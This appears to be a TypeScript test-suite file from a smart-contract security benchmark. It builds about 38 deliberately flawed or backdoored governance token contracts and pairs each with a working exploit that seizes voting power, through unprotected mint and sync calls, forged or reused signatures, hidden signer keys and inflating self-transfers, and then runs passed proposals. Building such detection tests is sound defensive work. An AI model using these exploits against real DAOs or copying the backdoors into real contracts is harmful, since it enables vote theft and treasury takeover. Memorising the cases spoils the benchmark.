/** Tokens of governors whose votes an account gives itself: by a signature, a secret, or without any check. */
import { concatHex, type Hex, keccak256, numberToHex, pad, parseSignature, stringToHex } from 'viem'
import { type Case, WEAK } from '../case.ts'
import type { Built, Chain } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { proposal, TENTH, TIMES, voted } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'
import { type Draft, mintBy, sendSigned, VOTES, voteAfter } from './walks.ts'

const DELEGATE = 'delegateBySig(address,uint256,uint256,uint8,bytes32,bytes32)'
const PERMIT = 'permit(address,address,uint256,uint256,uint8,bytes32,bytes32)'

/** The token is created with the account that the system hides. */
const keyed = (name: string): Case['build'] =>
  voted('HonestBallots', (chain) => chain.deploy(name, chain.hidden().address))
const plain = (name: string): Case['build'] => voted('HonestBallots', (chain) => chain.deploy(name))

/** The attacker signs how many votes it has. */
const delegateSigned: Case['exploit'] = voteAfter((attack, token) =>
  sendSigned(attack, token, DELEGATE, [
    ['address', attack.account.address],
    ['uint256', VOTES],
    ['uint256', 0n],
  ]),
)
const permitSigned: Case['exploit'] = voteAfter((attack, token) =>
  sendSigned(attack, token, PERMIT, [
    ['address', attack.account.address],
    ['address', attack.account.address],
    ['uint256', VOTES],
    ['uint256', 0n],
  ]),
)
const call = (signature: string, args: readonly unknown[] = []): Case['exploit'] =>
  voteAfter((attack, token) => attack.send(token, signature, args))

const SECRET: Hex = keccak256(stringToHex('secret'))
/** The account that created the token and holds all of it. */
const holderOf = ({ evm }: Pick<Chain, 'evm'>): bigint => BigInt(evm.accounts[0] as Hex)

/** A holder of votes, whose signature of a message is public. */
const held = (name: string): Case['build'] =>
  voted('HonestBallots', (chain) => chain.deploy(name, chain.hidden(1).address))
const REUSE = 'delegateBySignature(address,bytes32,uint8,bytes32,bytes32)'
const reuse = (digestOf: (token: Hex) => Hex): Case['exploit'] =>
  voteAfter(async (attack, token) => {
    const { v, r, s } = parseSignature(await attack.hidden(1).sign({ hash: digestOf(token) }))
    await attack.send(token, REUSE, [attack.account.address, SECRET, Number(v), r, s])
  })
const hashOf = (...words: readonly Hex[]): Hex => keccak256(concatHex(words))
const DELEGATION = keccak256(stringToHex('Delegation(address delegatee,uint256 nonce,uint256 expiry)'))
const DOMAIN = keccak256(stringToHex('EIP712Domain(address verifyingContract)'))
const digestOf = (token: Hex, ...words: readonly Hex[]): Hex =>
  hashOf('0x1901', hashOf(DOMAIN, pad(token)), hashOf(DELEGATION, ...words))

/** One account has a tenth of all votes. */
const holding = (name: string): Case['build'] =>
  voted('HonestBallots', async (chain) => {
    const token = await chain.deploy(name)
    await chain.send(token, 'transfer(address,uint96)', [chain.hidden().address, TENTH])
    return token
  })
/** Moves all it has to itself, until it has more than all others. */
const doubled: Case['exploit'] = voteAfter(async (attack, token) => {
  for (;;) {
    const [votes, balance] = await Promise.all(
      ['getVotes(address)', 'balanceOf(address)'].map(async (name) =>
        BigInt(await attack.read(token, name, [attack.account.address])),
      ),
    )
    if ((votes ?? 0n) + (balance ?? 0n) > 10n * TENTH) return
    await attack.send(token, 'move(address,uint96)', [attack.account.address, balance])
  }
})
/** A holder has voted for a proposal without a risk. */
const passed =
  (name: string, propose: (chain: Chain, governor: Hex, admin: Hex) => Promise<Hex>): Case['build'] =>
  async (chain) => {
    const holder = chain.hidden(1).address
    const token = await chain.deploy('CheckpointToken', holder)
    const governor = await chain.deploy(name, token)
    const built = await controlledBy(chain, governor, { token })
    await chain.send(token, 'delegate(address)', [holder], holder)
    const id = await propose(chain, governor, part(built, 'admin'))
    await chain.send(governor, 'vote(bytes32,bool)', [id, true], holder)
    return built
  }
const runAfter =
  (signature: string, argsOf: (built: Built) => readonly Hex[]): Case['exploit'] =>
  async (attack, built) => {
    await attack.wait(700_000)
    const data = upgradeCall(built.address, attack.code)
    await attack.send(part(built, 'controller'), signature, [...argsOf(built), part(built, 'admin'), data])
  }

const drafts: readonly Draft[] = [
  {
    name: 'a proposal that has passed lets every caller call any contract',
    cause: 'lying getter',
    build: passed('ReusedBallots', async (chain, governor) => {
      await chain.send(governor, 'propose(address,bytes)', [governor, '0x'])
      return proposal(governor, '0x')
    }),
    exploit: runAfter('run(bytes32,address,bytes)', ({ parts: { controller = '0x' } }) => [proposal(controller, '0x')]),
  },
  {
    name: 'a proposal that has passed names a contract, and the caller what it does',
    cause: 'lying getter',
    build: passed('HalfBallots', async (chain, governor, admin) => {
      await chain.send(governor, 'propose(address)', [admin])
      return hashOf(pad(admin))
    }),
    exploit: runAfter('run(address,bytes)', () => []),
  },
  {
    name: 'every caller gets votes for a token that it names',
    cause: 'lying getter',
    build: plain('NamedPayment'),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, 'deposit(address,uint256)', [await attack.deploy('FreePayment'), VOTES])
    }),
  },
  {
    name: 'every caller gets votes for ether, and takes it back',
    cause: 'lying getter',
    build: plain('ReturnedPayment'),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, 'deposit()', [], { value: 10n ** 18n })
      await attack.send(token, 'collect()')
    }),
  },
  {
    name: 'every caller sets its votes, and the function logs an initialization',
    cause: 'lying getter',
    build: plain('LoggedWeights'),
    exploit: call('sync(uint256)', [VOTES]),
  },
  {
    name: 'the initializer of a token has not run',
    cause: 'lying getter',
    build: plain('OpenInitializer'),
    exploit: call('initialize(uint256)', [VOTES]),
  },
  {
    name: 'every caller sets its votes, and the function that weighs them may store something',
    cause: 'lying getter',
    build: plain('StoringAnswer'),
    exploit: call('sync(uint256)', [VOTES]),
  },
  {
    name: 'every caller sets its votes in a contract that the token asks',
    cause: 'lying getter',
    build: plain('AskedVotes'),
    exploit: voteAfter(async (attack, token) => {
      const source: Hex = `0x${(await attack.read(token, 'source()')).slice(-40)}`
      await attack.send(source, 'sync(uint256)', [VOTES])
    }),
  },
  {
    name: 'every caller sets its votes, and the fallback function weighs them',
    cause: 'lying getter',
    build: plain('FallbackVotes'),
    exploit: call('sync(uint256)', [VOTES]),
  },
  {
    name: 'every caller can become the account that mints votes',
    cause: 'lying getter',
    build: voted('HonestBallots', async (chain) => chain.deploy('TakenMinter', await chain.council())),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, 'take()')
      await attack.send(token, 'mint(address,uint256)', [attack.account.address, VOTES])
    }),
  },
  {
    name: 'every caller has as many votes as seconds have passed',
    cause: 'lying getter',
    build: plain('TimedVotes'),
    exploit: call('sync()'),
  },
  {
    name: 'a function adds votes on one path and takes them on another',
    cause: 'lying getter',
    build: plain('SplitWeights'),
    exploit: call('move(bool,uint256)', [true, VOTES]),
  },
  {
    name: 'a transfer adds twice what it takes',
    cause: 'lying getter',
    by: 'one key',
    build: holding('DoubledTransfer'),
    exploit: doubled,
  },
  {
    name: 'a transfer to oneself adds to the balance before it',
    cause: 'lying getter',
    by: 'one key',
    build: holding('StaleTransfer'),
    exploit: doubled,
  },
  {
    name: 'every transfer of nothing gives a vote',
    cause: 'lying getter',
    build: plain('CountedTransfers'),
    exploit: voteAfter(async (attack, token) => {
      for (let n = 0; n < TIMES; n += 1)
        await attack.send(token, 'transfer(address,uint96)', [attack.account.address, 0n])
    }),
  },
  {
    name: 'a caller delegates the votes of all accounts that have signed anything',
    cause: 'lying getter',
    build: held('PassedDigest'),
    exploit: reuse(() => SECRET),
  },
  {
    name: 'a caller delegates the votes of an account that has signed without a delegate',
    cause: 'lying getter',
    build: held('UnsignedDelegate'),
    exploit: reuse((token) => digestOf(token, SECRET)),
  },
  {
    name: 'a caller delegates the votes of an account that has signed one bit of the delegate',
    cause: 'lying getter',
    build: held('PartlySignedDelegate'),
    exploit: reuse((token) => digestOf(token, SECRET, numberToHex(1, { size: 32 }))),
  },
  {
    name: 'every account joins those that mint votes by its signature',
    cause: 'lying getter',
    build: plain('SignedMinters'),
    exploit: voteAfter(async (attack, token) => {
      await sendSigned(attack, token, PERMIT, [
        ['address', attack.account.address],
        ['address', attack.account.address],
        ['uint256', 0n],
        ['uint256', 0n],
      ])
      await attack.send(token, 'mint(address,uint256)', [attack.account.address, VOTES])
    }),
  },
  {
    name: 'one key sets votes by its signature, in a function named delegateBySig',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('SignedWeights'),
    exploit: delegateSigned,
  },
  {
    name: 'one key sets votes by its signature, and the caller names the signer',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('NamedSignerWeights'),
    exploit: permitSigned,
  },
  {
    name: 'a signer in a list that no event shows sets votes',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('ListedSignerWeights'),
    exploit: delegateSigned,
  },
  {
    name: 'one key sets votes by its signature, and an instruction hides the check',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('HiddenSignerWeights'),
    exploit: delegateSigned,
  },
  {
    name: 'one key stores balances by its signature, without an event',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('SignedBalances'),
    exploit: delegateSigned,
  },
  {
    name: 'one key lends itself the votes of a holder by its signature',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('SignedDelegation'),
    exploit: voteAfter((attack, token) =>
      sendSigned(attack, token, DELEGATE, [
        ['address', attack.account.address],
        ['uint256', holderOf(attack.chain)],
        ['uint256', 0n],
      ]),
    ),
  },
  {
    name: 'one key allows itself by its signature to take the votes of a holder',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('SignedAllowance'),
    exploit: voteAfter(async (attack, token) => {
      const holder = attack.chain.evm.accounts[0] as Hex
      await sendSigned(attack, token, PERMIT, [
        ['address', holder],
        ['address', attack.account.address],
        ['uint256', 5n * TENTH],
        ['uint256', 0n],
      ])
      await attack.send(token, 'transferFrom(address,address,uint96)', [holder, attack.account.address, 5n * TENTH])
    }),
  },
  {
    name: 'an invalid signature counts as that of the account that the caller names',
    cause: 'lying getter',
    build: plain('FilledSigner'),
    exploit: voteAfter((attack, token) =>
      attack.send(token, DELEGATE, [attack.account.address, holderOf(attack.chain), 0n, 0, SECRET, SECRET]),
    ),
  },
  {
    name: 'every account sets its votes by its signature',
    cause: 'lying getter',
    build: plain('StatedWeights'),
    exploit: delegateSigned,
  },
  {
    name: 'every caller sets its votes',
    cause: 'lying getter',
    build: plain('OpenWeights'),
    exploit: call('sync(uint256)', [VOTES]),
  },
  {
    name: 'every caller adds to its votes',
    cause: 'lying getter',
    build: plain('AddedWeights'),
    exploit: call('sync(uint256)', [VOTES]),
  },
  {
    name: 'every caller mints votes',
    cause: 'lying getter',
    build: plain('FreeToken'),
    exploit: call('claim(uint256)', [VOTES]),
  },
  {
    name: 'every caller sets its votes in two steps',
    cause: 'lying getter',
    build: plain('TwoStepWeights'),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, 'prepare(uint256)', [VOTES])
      await attack.send(token, 'sync()')
    }),
  },
  {
    name: 'every caller spends points for votes, and the points are free',
    cause: 'lying getter',
    build: plain('PointWeights'),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, 'collect(uint256)', [VOTES])
      await attack.send(token, 'sync(uint256)', [VOTES])
    }),
  },
  {
    name: 'one key gets votes in a part of an open function',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('PartlyReserved'),
    exploit: call('poke()'),
  },
  {
    name: 'a caller that knows a word sets its votes',
    cause: 'lying getter',
    build: voted('HonestBallots', (chain) => chain.deploy('SecretWeights', keccak256(SECRET))),
    exploit: call('sync(bytes32,uint256)', [SECRET, VOTES]),
  },
  {
    name: 'one key mints votes by a signature that a contract in a slot recovers',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('SlotRecovery'),
    exploit: permitSigned,
  },
  {
    name: 'one key mints votes, and its check is deep in operations',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('DeepMinter'),
    exploit: mintBy,
  },
  {
    name: 'one key mints votes, and names itself as the caller',
    cause: 'lying getter',
    by: 'one key',
    build: keyed('NamedMinter'),
    exploit: voteAfter((attack, token) =>
      attack.send(token, 'mint(address,uint256,address)', [attack.account.address, VOTES, attack.account.address]),
    ),
  },
]

export const signedVotes: readonly Case[] = drafts.map((draft) => ({ by: 'anyone', truth: WEAK, ...draft }))
